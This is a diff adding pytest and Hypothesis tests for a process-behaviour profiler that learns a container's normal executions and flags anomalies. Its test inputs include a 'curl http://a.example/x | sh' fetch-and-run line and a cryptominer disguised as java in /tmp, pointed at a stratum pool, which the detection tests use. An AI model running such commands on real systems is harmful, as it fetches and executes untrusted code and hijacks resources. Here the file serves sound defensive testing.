@@ -1,0 +1,210 @@
+# SPDX-License-Identifier: Apache-2.0
+"""Profiles: learned ⇒ known, the three steps, snapshots."""
+
+import numpy as np
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from habitus.events import Container, Event, Process
+from habitus_profiler import snapshot
+from habitus_profiler.convergence import Learning, Rule
+from habitus_profiler.profile import Ask, Limits, Miss, Profile
+from habitus_profiler.report import detail, summary
+
+LIMITS = Limits(max_children=4, max_vectors=8, threshold=None)
+RULE = Rule(window_s=60, epsilon=0, min_events=3)
+THRESHOLD = 0.65
+
+words = st.sampled_from(
+    ["-c", "sh", "curl http://a.example/x | sh", "/tmp/x", "-v", "42", "origin", "http://10.0.0.9/", "A=1"]
+)  # fmt: skip
+argvs = st.lists(words | st.text(max_size=12), min_size=1, max_size=5)
+
+
+def fresh(limits=LIMITS):
+    return Profile("webapp:v1", 3, limits, Learning(RULE))
+
+
+def execed(argv, *, exe=None, name="java", parent="bash"):
+    process = Process(exe=exe or f"/usr/bin/{name}", name=name, parent=parent, argv=list(argv))
+    return Event(ts=1, class_="process", op="exec", container=Container(image="webapp:v1"), process=process)
+
+
+def complete(profile, vector_of):
+    for leaf, text in profile.pending():
+        profile.resolve(leaf, text, vector_of(text), THRESHOLD)
+
+
+def learned(vector_of, *events):
+    profile = fresh()
+    for event in events:
+        profile.learn(event)
+    complete(profile, vector_of)
+    profile.detect(1)
+    return profile
+
+
+def verdict(profile, event, vector_of):
+    """Return the reason, or None."""
+    found = profile.judge(event)
+    if isinstance(found, Ask):
+        found = profile.settle(found, vector_of(found.form.text), THRESHOLD)
+    return found.reason if isinstance(found, Miss) else None
+
+
+@given(st.lists(argvs, max_size=8))
+def test_learned_is_known_without_a_vector(lines):
+    """No model is asked for what was seen."""
+    profile = fresh()
+    for argv in lines:
+        profile.learn(execed(argv))
+    profile.detect(1)
+    assert [profile.judge(execed(argv)) for argv in lines] == [None] * len(lines)
+
+
+@given(st.lists(argvs, max_size=8), argvs, st.randoms(use_true_random=False))
+def test_the_order_of_learning_does_not_matter_to_paths_forms_and_slots(lines, asked, random):
+    """What needs no vector is judged alike, whatever came first."""
+    shuffled = list(lines)
+    random.shuffle(shuffled)
+    verdicts = []
+    for order in (lines, shuffled):
+        profile = fresh()
+        for argv in order:
+            profile.learn(execed(argv))
+        profile.detect(1)
+        found = profile.judge(execed(asked))
+        verdicts.append((type(found), getattr(found, "reason", None), getattr(found, "detail", None)))
+    assert verdicts[0] == verdicts[1]
+
+
+@given(lines=st.lists(argvs, max_size=6))
+def test_a_snapshot_is_the_profile(lines):
+    """parse ∘ serialise is the identity: the same bytes again, the same figures."""
+    profile = fresh()
+    for number, argv in enumerate(lines):
+        profile.learn(execed(argv))
+        profile.applied.add(number + 7)
+    for leaf, text in profile.pending():
+        row = np.zeros(16, np.float32)
+        row[len(text) % 16] = 1
+        profile.resolve(leaf, text, row, THRESHOLD)
+    data = snapshot.sealed(profile, "s")
+    again = snapshot.parsed(data, LIMITS, RULE, "s")
+    assert snapshot.sealed(again, "s") == data
+    assert again.applied == profile.applied
+    profile.bytes = again.bytes
+    assert summary(again).model_dump() == summary(profile).model_dump()
+    assert detail(again, 10).tries == detail(profile, 10).tries
+
+
+def test_sequences_of_another_stream_say_nothing():
+    """A stream that was made anew counts from 1 again."""
+    profile = fresh()
+    profile.applied = {1, 2}
+    data = snapshot.sealed(profile, "old")
+    assert snapshot.parsed(data, LIMITS, RULE, "new").applied == set()
+
+
+@pytest.mark.parametrize("at", [0, 5, 40, -1])
+def test_a_damaged_snapshot_is_refused(at):
+    """One flipped bit is enough."""
+    profile = fresh()
+    profile.learn(execed(["java", "-jar", "app.jar"]))
+    data = bytearray(snapshot.sealed(profile, "s"))
+    data[at] ^= 1
+    with pytest.raises(snapshot.SnapshotFault):
+        snapshot.parsed(bytes(data), LIMITS, RULE, "s")
+
+
+def test_a_miner_renamed_java_falls_at_the_leaf(vector_of):
+    """The path is known; the program's place, its name on the command line and its pool are not."""
+    profile = learned(vector_of, *(execed(["java", "-jar", "app.jar", f"--id={n}"]) for n in range(5)))
+    mining = ["./java", "-o", "stratum+tcp://pool.example:4444"]
+    found = profile.judge(execed(mining, exe="/tmp/java"))
+    assert isinstance(found, Miss)
+    assert found.reason == "novel-slot"
+    assert "/tmp/java" in found.detail
+    assert verdict(profile, execed(mining), vector_of) == "novel-slot"
+    assert verdict(profile, execed(mining, name="xmrig"), vector_of) == "unknown-path"
+    assert verdict(profile, execed(mining, parent="nginx"), vector_of) == "unknown-path"
+
+
+def test_the_same_program_in_another_directory_of_the_image_is_the_same(vector_of):
+    """/usr/local/bin/java after /usr/bin/java, but no memfd and nothing deleted."""
+    profile = learned(vector_of, execed(["java", "-version"]))
+    assert verdict(profile, execed(["java", "-version"], exe="/usr/local/bin/java"), vector_of) is None
+    for exe in ("memfd:java (deleted)", "/usr/bin/java (deleted)", "/dev/shm/java", "/run/java", "./java"):
+        assert verdict(profile, execed(["java", "-version"], exe=exe), vector_of) == "novel-slot", exe
+
+
+def test_cosine_decides_only_what_slots_leave_open(vector_of):
+    """A near word is known, a far one is not, a novel slot is never."""
+    lines = [["git", "fetch", "origin", f"release-candidate-{word}"] for word in ("alpha", "beta")]
+    profile = learned(vector_of, *(execed(line, name="git") for line in lines))
+    near = ["git", "fetch", "origin", "release-candidate-gamma"]
+    assert verdict(profile, execed(near, name="git"), vector_of) is None
+    assert verdict(profile, execed(["git", "gc", "quux"], name="git"), vector_of) == "unknown-argument"
+    assert verdict(profile, execed([*near, "--upload-pack=id"], name="git"), vector_of) == "novel-slot"
+
+
+def test_changing_ids_never_count_as_news_and_near_forms_neither(vector_of):
+    """News is what neither the normal form nor the cosine absorbs."""
+    profile = fresh()
+    for number in range(50):
+        profile.learn(execed(["java", "-jar", "app.jar", f"--id={number}"]))
+        complete(profile, vector_of)
+    first = profile.learning.progress.new
+    for word in ("alpha", "beta", "gamma"):
+        profile.learn(execed(["java", "-jar", "app.jar", "--id=1", word]))
+        complete(profile, vector_of)
+    assert profile.learning.progress.new == first
+    profile.learn(execed(["java", "-jar", "app.jar", "--id=1", "--other"]))
+    complete(profile, vector_of)
+    assert profile.learning.progress.new == first + 1
+
+
+def test_a_profile_lacks_nothing_before_it_is_ready(vector_of):
+    """Vectors still asked for hold convergence up; what they bring counts from when it is known."""
+    profile = fresh()
+
+    def work(first, last):
+        for second in range(first, last, 5):
+            event = execed(["java"])
+            event.ts = (1_764_000_000 + second) * 10**9
+            profile.learn(event)
+
+    work(0, 200)
+    assert profile.learning.converged()
+    assert not profile.ready()
+    complete(profile, vector_of)
+    assert not profile.ready()
+    work(200, 300)
+    assert profile.ready()
+
+
+def test_another_model_asks_for_every_vector_again(vector_of):
+    """Vectors of two models are never compared."""
+    profile = learned(vector_of, execed(["java", "a"]), execed(["java", "b", "c"]))
+    profile.speaks("one")
+    assert not profile.lacks_vectors
+    profile.speaks("two")
+    assert len(profile.pending()) == 2
+    complete(profile, vector_of)
+    assert sum(len(leaf.texts) for leaf in profile.leaves()) > 0
+
+
+def test_vectors_are_capped(vector_of):
+    """However many forms, a leaf keeps `max_vectors`."""
+    profile = learned(vector_of, *(execed(["java", f"{chr(97 + n) * 9}"]) for n in range(20)))
+    assert all(len(leaf.texts) <= LIMITS.max_vectors for leaf in profile.leaves())
+
+
+def test_unseen_falls_as_habits_repeat(vector_of):
+    """Good–Turing over forms and leaves; confidence follows it."""
+    once = learned(vector_of, execed(["java", "a"]))
+    often = learned(vector_of, *(execed(["java", "a"]) for _ in range(50)))
+    assert once.unseen == 1
+    assert often.unseen == 0
+    assert often.confidence > 0.9 > once.confidence
